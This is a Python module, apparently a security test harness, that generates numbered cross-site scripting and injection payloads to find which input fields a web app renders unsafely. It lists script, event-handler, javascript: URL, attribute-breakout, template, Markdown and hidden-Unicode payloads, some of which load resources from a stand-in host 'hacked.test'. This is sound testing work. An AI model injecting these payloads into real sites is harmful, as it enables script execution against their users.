"""Texts that would run, load or mean something if a page took them for more than text."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from hodgerank.campaign.items import require_name
from hodgerank.errors import HodgeRankError

ELSEWHERE = "hacked.test"
NUMBER = "§"
"""Stands for the field that a text is written into."""

VOLLEYS: Mapping[str, tuple[str, ...]] = {
    "elements and attributes": (
        "<script>__hacked(§)</script>",
        "<img src=x onerror=__hacked(§)>",
        "<svg onload=__hacked(§)>",
        "<iframe src=javascript:parent.__hacked(§)>",
        '"><img src=x onerror=__hacked(§)>',
        "'><svg onload=__hacked(§)>",
        '" autofocus tabindex=1 onfocus=__hacked(§) x="',
        "' autofocus tabindex=1 onfocus=__hacked(§) x='",
    ),
    "ends, addresses and styles": (
        "</script><script>__hacked(§)</script>",
        "</title><svg onload=__hacked(§)>",
        "</textarea><svg onload=__hacked(§)>",
        "--><svg onload=__hacked(§)><!--",
        "javascript:__hacked(§)",
        "data:text/html,<script>__hacked(§)</script>",
        f"</style><style>@import'//{ELSEWHERE}/§'</style>",
        f"x;background:url(//{ELSEWHERE}/§);width:expression(__hacked(§))",
    ),
    "templates, Markdown and unseen characters": (
        "{{7*7}}${7*7}#{7*7}{n}%(n)s%s§",
        "[a](javascript:__hacked(§))",
        f"![b](//{ELSEWHERE}/§)",
        f"<javascript:__hacked(§)> <https://{ELSEWHERE}/§>",
        "a\ufeff\u200d<svg onload=__hacked(§)>",
        "b\u2028__hacked(§)//\u2029b",
        "c\u202e<svg onload=__hacked(§)>\u2066",
        "d\x00\x08\x1b\x7f\x85<svg/onload=__hacked(§)>",
    ),
}


class Attack:
    """One volley, all of it in every field.

    Attributes
    ----------
    fields
        What was written into, by the number that stands in its text.
    texts
        The same, as it was written.
    """

    def __init__(self, payloads: tuple[str, ...]) -> None:
        self._payloads = payloads
        self.fields: list[str] = []
        self.texts: list[str] = []

    def text(self, field: str, turn: int = 0) -> str:
        """The volley for a field, begun elsewhere each turn: long texts are cut on some pages."""
        return self._aimed(field, turn, lambda payload: True)

    def name(self, field: str, turn: int = 0) -> str:
        """The same for fields that take one line of what can be seen."""
        return self._aimed(field, turn, is_name)

    def part(self, field: str, turn: int = 0) -> str:
        """The same for what is one part of an address."""
        return self._aimed(field, turn, is_name).replace("/", "")

    def told(self, words: str) -> str:
        """What was noticed, with the fields that its numbers mean."""
        known = [f"{k}: {field}" for k, field in enumerate(self.fields) if f"({k})" in words]
        return f"{words} [{', '.join(known)}]" if known else words

    def _aimed(self, field: str, turn: int, is_fit: Callable[[str], bool]) -> str:
        fit = [payload for payload in self._payloads if is_fit(payload)]
        first = 2 * turn % len(fit)
        turned = fit[first:] + fit[:first]
        number = str(len(self.fields))
        self.fields.append(field)
        self.texts.append(" ".join(turned).replace(NUMBER, number))
        return self.texts[-1]


def is_name(payload: str) -> bool:
    """Whether items, workers and tokens may be called so."""
    try:
        require_name(payload, "it")
    except HodgeRankError:
        return False
    return True
